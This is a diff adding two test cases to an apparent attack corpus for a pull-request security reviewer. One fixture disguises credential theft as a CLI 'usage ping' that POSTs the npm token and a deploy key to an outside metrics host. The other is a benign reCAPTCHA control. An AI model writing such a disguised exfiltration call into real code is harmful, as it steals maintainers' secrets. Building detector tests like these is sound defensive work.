@@ -1927,4 +1927,30 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-wrapper-changed'] },
   },
+  {
+    id: 'attack-code-posts-product-secret',
+    description:
+      "GhostAction's shape in program code: a \"usage ping\" added to a CLI's startup posts the npm token and the project's own deploy key, read from the environment by name, to an ordinary-looking metrics host.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7612,
+        title: 'feat: anonymous usage ping',
+        author: 'newcomer',
+        files: [{ path: 'index.js', base: INDEX_BASE, head: lines(INDEX_BASE, '', "fetch('https://usage.cli-metrics.dev/v1/ping', { method: 'POST', body: JSON.stringify({ v: 1, n: process.env.NPM_TOKEN, d: process.env.TINT_DEPLOY_KEY }) }).catch(() => {});") }],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['suspicious-network-endpoint'] },
+  },
+  {
+    id: 'attack-code-posts-captcha-secret',
+    description: 'A maintainer verifies a contact form with reCAPTCHA: the secret goes in the body of a request to Google\'s verification endpoint, as its documentation says.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7613,
+        title: 'feat: verify the contact form',
+        files: [{ path: 'src/contact.js', base: lines("'use strict';", 'module.exports = {};'), head: lines("'use strict';", 'async function human(token) {', "  const r = await fetch('https://www.google.com/recaptcha/api/siteverify', { method: 'POST', body: new URLSearchParams({ secret: process.env.RECAPTCHA_SECRET_KEY, response: token }) });", '  return (await r.json()).success === true;', '}', 'module.exports = { human };') }],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment', 'needs_discussion'], absentDrivers: ['finding:suspicious-network-endpoint'] },
+  },
 ];
